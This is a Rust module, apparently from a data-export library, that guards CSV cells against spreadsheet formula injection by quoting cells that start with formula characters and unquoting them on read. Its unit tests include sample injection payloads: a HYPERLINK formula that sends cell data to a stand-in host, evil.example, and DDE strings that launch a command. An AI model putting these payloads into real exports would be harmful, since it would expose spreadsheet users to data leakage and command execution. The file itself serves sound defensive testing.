//! Cells of the CSV files a spreadsheet will open (OWASP "CSV injection"): text that starts
//! like a formula is written with a leading `'`, so the spreadsheet shows it as text and never
//! runs it; reading a file takes that `'` off again, so an export imports back unchanged.

/// The characters a spreadsheet may read as the start of a formula.
const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A plain decimal number (`-3`, `+12.5`): a spreadsheet reads it as a number, never a
/// formula, so a negative figure stays a number.
fn is_number(cell: &str) -> bool {
    let digits = cell.trim_start_matches(['-', '+']);
    if digits.len() + 1 < cell.len() {
        return false;
    }
    let mut parts = digits.splitn(2, '.');
    let whole = parts.next().unwrap_or("");
    let fraction = parts.next();
    !whole.is_empty()
        && whole.bytes().all(|b| b.is_ascii_digit())
        && fraction.is_none_or(|f| !f.is_empty() && f.bytes().all(|b| b.is_ascii_digit()))
}

/// Whether `cell`, after any run of leading `'`, starts with a formula character.
fn quoted_trigger(cell: &str) -> bool {
    cell.trim_start_matches('\'').starts_with(TRIGGERS)
}

/// The cell as a file writes it: one `'` in front of text that starts with `=`, `+`, `-`, `@`,
/// a tab or a carriage return (numbers excepted), and in front of text that already starts
/// with `'` before one of those, so that [`read_cell`] gives back exactly what was written.
pub fn write_cell(cell: &str) -> std::borrow::Cow<'_, str> {
    let guard = match cell.starts_with('\'') {
        true => quoted_trigger(cell),
        false => cell.starts_with(TRIGGERS) && !is_number(cell),
    };
    match guard {
        true => format!("'{cell}").into(),
        false => cell.into(),
    }
}

/// The cell as it was before [`write_cell`]: one leading `'` taken off when what follows it
/// (after any further `'`) starts with a formula character; anything else as it is.
pub fn read_cell(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if quoted_trigger(rest) => rest,
        _ => cell,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_written_as_text() {
        for cell in [
            "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")",
            "+cmd|' /C calc'!A0",
            "@SUM(A1:A2)",
            "-2+3+cmd|' /C calc'!A0",
            "\t=1",
            "\r=1",
            "-",
            "-;4;4",
        ] {
            assert_eq!(write_cell(cell), format!("'{cell}"), "{cell:?}");
        }
    }

    #[test]
    fn numbers_and_ordinary_text_are_written_as_they_are() {
        for cell in [
            "-3",
            "-12.50",
            "+4",
            "0",
            "7.5",
            "",
            "JS-0042",
            "Ann's team",
            "'quoted",
            "a=b",
        ] {
            assert_eq!(write_cell(cell), cell, "{cell:?}");
        }
        for not_a_number in ["-1e5", "-inf", "-1.", "-.5", "--1", "-1-1"] {
            assert_eq!(write_cell(not_a_number), format!("'{not_a_number}"));
        }
    }

    #[test]
    fn every_cell_reads_back_as_it_was_written() {
        for cell in [
            "=1+1", "'=1+1", "''=1+1", "'", "''", "'quoted", "-3", "-x", "'-3", "@here", "plain",
            "", "\tx",
        ] {
            assert_eq!(read_cell(&write_cell(cell)), cell, "{cell:?}");
        }
    }

    #[test]
    fn a_cell_a_person_typed_with_a_quote_before_a_formula_reads_without_it() {
        assert_eq!(read_cell("'=SUM(A1)"), "=SUM(A1)");
        assert_eq!(read_cell("'hello"), "'hello");
        assert_eq!(read_cell("-4"), "-4");
    }
}
